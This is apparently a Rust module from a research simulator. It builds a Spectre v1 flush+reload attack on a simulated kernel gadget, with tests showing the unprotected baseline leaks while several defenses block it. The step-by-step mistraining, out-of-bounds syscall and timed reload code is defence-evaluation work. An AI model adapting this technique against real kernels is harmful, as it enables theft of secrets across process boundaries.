//! Active transient execution attack PoC (Figure 4.1): Spectre v1 from
//! the attacker's *own* kernel thread.
//!
//! The attacker process:
//!
//! 1. **mistrains** a bounds-check branch in a kernel gadget by repeatedly
//!    invoking the syscall with in-bounds arguments;
//! 2. **flushes** its flush+reload probe array (its own user buffer, whose
//!    address it passes as a syscall argument — the classic
//!    `array2 = user pointer` pattern);
//! 3. invokes the syscall with an **out-of-bounds index** computed so that
//!    `array_base + idx` lands on the *victim's* secret in the direct map;
//! 4. **reloads** the probe array with `rdtsc` timing to recover the byte.
//!
//! Everything except two eviction steps runs as µISA code through the
//! pipeline. The harness flushes the gadget's bound chain and the secret
//! line between training and attack — modelling the cache-contention
//! eviction a co-located attacker performs (it cannot `clflush` kernel
//! lines, but it can always evict them).

use crate::lab::{AttackLab, Scheme};
use persp_kernel::callgraph::{GadgetKind, GadgetSite};
use persp_kernel::kernel::KernelImage;
use persp_kernel::syscalls::Sysno;
use persp_mem::covert::PROBE_STRIDE;
use persp_uarch::config::CoreConfig;
use persp_uarch::isa::{AluOp, Assembler, Cond, Inst, REG_ARG0, REG_ARG1, REG_SYSNO};
use perspective::policy::PerspectiveConfig;
use perspective::taxonomy::AttackOutcome;

/// Reload-timing threshold separating cached from uncached lines
/// (L1/L2 hits measure ≲ 15 cycles, DRAM ≳ 110).
const HIT_THRESHOLD: u64 = 60;
/// Probe lines (one per possible byte value).
const PROBE_LINES: u64 = 256;

/// A selected attack target: a syscall whose *executed* path contains a
/// cache-transmitting gadget.
#[derive(Debug, Clone, Copy)]
pub struct ActiveTarget {
    /// The syscall to invoke.
    pub syscall: Sysno,
    /// The gadget reached by that syscall.
    pub site: GadgetSite,
}

/// Find a syscall whose live path contains a Cache gadget.
pub fn find_active_target(lab: &AttackLab) -> Option<ActiveTarget> {
    let kernel = lab.sim.kernel.borrow();
    let graph = &kernel.graph;
    let mut best: Option<(usize, ActiveTarget)> = None;
    for &sys in Sysno::ALL {
        // Target gadgets on unconditionally-executed paths: the attacker
        // wants a gadget its own syscall reliably reaches. (Gadgets behind
        // rare gates are also exploitable by aligning the sequence
        // counter with retries; the PoC keeps to the simple case.)
        let live = graph.live_always_reachable(&[sys]);
        let cache_gadgets: Vec<GadgetSite> = graph
            .gadgets_within(&live)
            .into_iter()
            .filter(|(_, s)| s.kind == GadgetKind::Cache)
            .map(|(_, s)| s)
            .collect();
        if let Some(&site) = cache_gadgets.first() {
            let target = ActiveTarget { syscall: sys, site };
            match &best {
                Some((n, _)) if *n <= cache_gadgets.len() => {}
                _ => best = Some((cache_gadgets.len(), target)),
            }
        }
    }
    best.map(|(_, t)| t)
}

/// Report of one active-attack run.
#[derive(Debug)]
pub struct ActiveAttackReport {
    /// Scheme the attack ran against.
    pub scheme: Scheme,
    /// Per-phase outcome.
    pub outcome: AttackOutcome,
    /// Probe lines the attacker measured as hot.
    pub hot_lines: Vec<u8>,
    /// The gadget used.
    pub target: ActiveTarget,
}

/// Build the training program: `rounds` in-bounds syscalls.
fn training_program(
    base: u64,
    target: &ActiveTarget,
    probe_base: u64,
    rounds: usize,
) -> Vec<(u64, Inst)> {
    let mut asm = Assembler::new(base);
    for _ in 0..rounds {
        asm.movi(REG_ARG0, 7); // comfortably within the gadget's bound (64)
        asm.movi(REG_ARG1, probe_base);
        asm.movi(REG_SYSNO, target.syscall as u16 as u64);
        asm.push(Inst::Syscall);
    }
    asm.push(Inst::Halt);
    asm.finish()
}

/// Build the attack + reload program.
///
/// Registers: r2 probe base, r3 loop index, r30 result bitmap base.
fn attack_program(
    base: u64,
    target: &ActiveTarget,
    probe_base: u64,
    result_base: u64,
    oob_index: u64,
) -> Vec<(u64, Inst)> {
    let mut asm = Assembler::new(base);
    // Flush the probe array.
    asm.movi(2, probe_base);
    for i in 0..PROBE_LINES {
        asm.push(Inst::CacheFlush {
            base: 2,
            offset: (i * PROBE_STRIDE) as i64,
        });
    }
    // The malicious syscall.
    asm.movi(REG_ARG0, oob_index);
    asm.movi(REG_ARG1, probe_base);
    asm.movi(REG_SYSNO, target.syscall as u16 as u64);
    asm.push(Inst::Syscall);
    // Reload with timing; mark hot lines in the result bitmap.
    asm.movi(3, 0); // i
    asm.movi(30, result_base);
    asm.movi(18, HIT_THRESHOLD);
    asm.movi(19, 1);
    asm.movi(22, PROBE_LINES);
    let loop_top = asm.here();
    asm.push(Inst::RdTsc { dst: 4 });
    asm.alui(AluOp::Shl, 5, 3, 12);
    asm.alu(AluOp::Add, 6, 2, 5);
    asm.load_b(7, 6, 0);
    asm.push(Inst::RdTsc { dst: 8 });
    asm.alu(AluOp::Sub, 9, 8, 4);
    let skip = asm.new_label();
    asm.branch(Cond::Geu, 9, 18, skip);
    asm.alu(AluOp::Add, 21, 30, 3);
    asm.push(Inst::Store {
        src: 19,
        base: 21,
        offset: 0,
        width: persp_uarch::isa::Width::B,
    });
    asm.bind(skip);
    asm.alui(AluOp::Add, 3, 3, 1);
    asm.branch_to(Cond::Ltu, 3, 22, loop_top);
    asm.push(Inst::Halt);
    asm.finish()
}

/// Run the full active Spectre v1 attack against `scheme` on a lab built
/// from `image`, under enforcement `pcfg` and core `core_cfg`.
///
/// Plants `secret` in the victim, executes training, eviction, the
/// out-of-bounds syscall, and the reload measurement, and returns what the
/// attacker recovered. With `pcfg.enforce_dsv` off, Perspective
/// degenerates to ISV-only and the attack leaks again — the taxonomy's
/// claim that instruction views cannot stop data-access primitives (§5.1).
pub fn run_active_attack(
    scheme: Scheme,
    image: &KernelImage,
    secret: u8,
    pcfg: PerspectiveConfig,
    core_cfg: CoreConfig,
) -> ActiveAttackReport {
    let mut lab = AttackLab::new(scheme, image, &[Sysno::Getpid], pcfg, core_cfg);
    execute_attack(&mut lab, secret).expect("attack harness runs")
}

/// An active-attack run with the SNI checker attached.
#[derive(Debug)]
pub struct SniAttackReport {
    /// The attack's own outcome (what the attacker recovered).
    pub attack: ActiveAttackReport,
    /// The checker's counters over the whole run.
    pub sni: persp_uarch::SniCounters,
}

/// Run the active attack on an *instrumented* lab with the SNI checker's
/// leakage monitor attached: allocation metadata is recorded even for
/// baseline schemes, so the ground-truth oracle (judging with the lab's
/// `pcfg`) can taint the victim's secret and count transmits. Under
/// UNSAFE the gadget's dependent probe access is a tainted transmit —
/// the baseline *provably* leaks at the microarchitectural level, not
/// just via the recovered byte; under full Perspective every counter
/// must be zero.
///
/// # Errors
///
/// Returns a description instead of panicking if the simulation errors
/// mid-phase (graceful degradation).
pub fn run_active_attack_sni(
    scheme: Scheme,
    image: &KernelImage,
    secret: u8,
    pcfg: PerspectiveConfig,
    core_cfg: CoreConfig,
    shadow_budget: u64,
) -> Result<SniAttackReport, String> {
    let mut lab = AttackLab::instrumented(scheme, image, &[Sysno::Getpid], pcfg, core_cfg);
    let sim = &mut lab.sim;
    let oracle = sim
        .perspective
        .as_ref()
        .expect("instrumented lab")
        .sni_oracle(pcfg);
    sim.core
        .attach_sni(persp_uarch::SniChecker::new(oracle, shadow_budget));
    let attack = execute_attack(&mut lab, secret)?;
    Ok(SniAttackReport {
        attack,
        sni: lab.sim.core.stats().sni,
    })
}

/// Execute the train → evict → attack → reload phases against a built
/// lab; shared by the plain and SNI-instrumented entry points.
fn execute_attack(lab: &mut AttackLab, secret: u8) -> Result<ActiveAttackReport, String> {
    let scheme = lab.sim.scheme;
    let attacker = lab.attacker();
    let target = find_active_target(lab).ok_or("generated kernel has no reachable cache gadget")?;

    lab.plant_victim_secret(secret);
    let secret_va = lab.victim_secret_va();
    let oob_index = secret_va.wrapping_sub(target.site.array_base_va);

    let text_base = lab.user_text(attacker);
    let data_base = lab.user_data(attacker);
    let probe_base = data_base + 0x10_0000;
    let result_base = data_base + 0x40_0000;

    // Phase 1: mistrain the gadget's bounds check (committed, in-bounds).
    let train = training_program(text_base, &target, probe_base, 8);
    lab.sim.core.machine.load_text(train);
    lab.run_as(attacker, text_base, 3_000_000)
        .map_err(|e| format!("training under {scheme} failed: {e}"))?;

    // Phase 2 (harness): evict the bound chain and the secret line —
    // models the attacker's cache-contention eviction of kernel lines.
    let mem = &mut lab.sim.core.mem;
    mem.flush(target.site.bound_ptr_va);
    mem.flush(target.site.bound_val_va);
    mem.flush(secret_va);

    // Phase 3+4: out-of-bounds syscall and timed reload, fully in µISA.
    let attack_base = text_base + 0x8000;
    let attack = attack_program(attack_base, &target, probe_base, result_base, oob_index);
    lab.sim.core.machine.load_text(attack);
    lab.run_as(attacker, attack_base, 3_000_000)
        .map_err(|e| format!("attack phase under {scheme} failed: {e}"))?;

    // Read the attacker's result bitmap.
    let mut hot_lines = Vec::new();
    for i in 0..PROBE_LINES {
        if lab.sim.core.machine.mem.read_u8(result_base + i) != 0 {
            hot_lines.push(i as u8);
        }
    }

    Ok(ActiveAttackReport {
        scheme,
        outcome: AttackOutcome::from_hot_lines(&hot_lines, secret),
        hot_lines,
        target,
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::lab::{attack_succeeds, test_image};

    /// The probe lines the attack leaves hot under `scheme`.
    fn hot(scheme: Scheme, secret: u8) -> Vec<u8> {
        let (pcfg, core_cfg) = (PerspectiveConfig::default(), CoreConfig::paper_default());
        run_active_attack(scheme, &test_image(), secret, pcfg, core_cfg).hot_lines
    }

    fn active_attack_succeeds(scheme: Scheme) -> bool {
        attack_succeeds([0x2A, 0x91], |s| hot(scheme, s))
    }

    fn run_sni(scheme: Scheme) -> SniAttackReport {
        let (pcfg, core_cfg) = (PerspectiveConfig::default(), CoreConfig::paper_default());
        run_active_attack_sni(scheme, &test_image(), 0x2A, pcfg, core_cfg, 500_000)
            .expect("instrumented attack runs")
    }

    #[test]
    fn target_selection_finds_a_cache_gadget() {
        let (pcfg, core_cfg) = (PerspectiveConfig::default(), CoreConfig::paper_default());
        let lab = AttackLab::new(
            Scheme::Unsafe,
            &test_image(),
            &[Sysno::Getpid],
            pcfg,
            core_cfg,
        );
        let t = find_active_target(&lab).expect("target exists");
        assert_eq!(t.site.kind, GadgetKind::Cache);
        assert_ne!(t.site.seq_va, 0);
    }

    #[test]
    fn active_attack_leaks_on_unsafe_hardware() {
        assert!(
            active_attack_succeeds(Scheme::Unsafe),
            "the unprotected baseline must leak"
        );
    }

    #[test]
    fn perspective_dsv_blocks_the_active_attack() {
        let hot = hot(Scheme::Perspective, 0x2A);
        assert!(
            !hot.contains(&0x2A),
            "DSV must block the foreign access: {hot:?}"
        );
        assert!(!active_attack_succeeds(Scheme::Perspective));
    }

    #[test]
    fn fence_blocks_the_active_attack() {
        assert!(!active_attack_succeeds(Scheme::Fence));
    }

    #[test]
    fn stt_blocks_the_transmission() {
        assert!(!active_attack_succeeds(Scheme::Stt));
    }

    #[test]
    fn dom_blocks_the_cold_secret_access() {
        assert!(!active_attack_succeeds(Scheme::Dom));
    }

    #[test]
    fn sni_monitor_proves_the_unsafe_leak() {
        let r = run_sni(Scheme::Unsafe);
        assert!(
            r.sni.secret_spec_loads > 0,
            "the gadget's out-of-DSV load must be tainted: {:?}",
            r.sni
        );
        assert!(
            r.sni.tainted_transmits > 0,
            "the dependent probe access must count as a transmit: {:?}",
            r.sni
        );
    }

    #[test]
    fn sni_monitor_is_silent_under_full_perspective() {
        let r = run_sni(Scheme::Perspective);
        assert_eq!(
            r.sni.violations(),
            0,
            "full enforcement must be non-interferent: {:?}",
            r.sni
        );
        assert_eq!(r.sni.shadow_mismatches, 0);
        assert!(
            !r.attack.hot_lines.contains(&0x2A),
            "and the byte stays secret"
        );
    }

    #[test]
    fn spot_mitigations_do_not_stop_spectre_v1() {
        // KPTI + Retpoline are spot mitigations for Meltdown/v2 only —
        // the v1 gadget still leaks (the paper's motivation for
        // principled defenses).
        assert!(active_attack_succeeds(Scheme::Spot));
    }
}
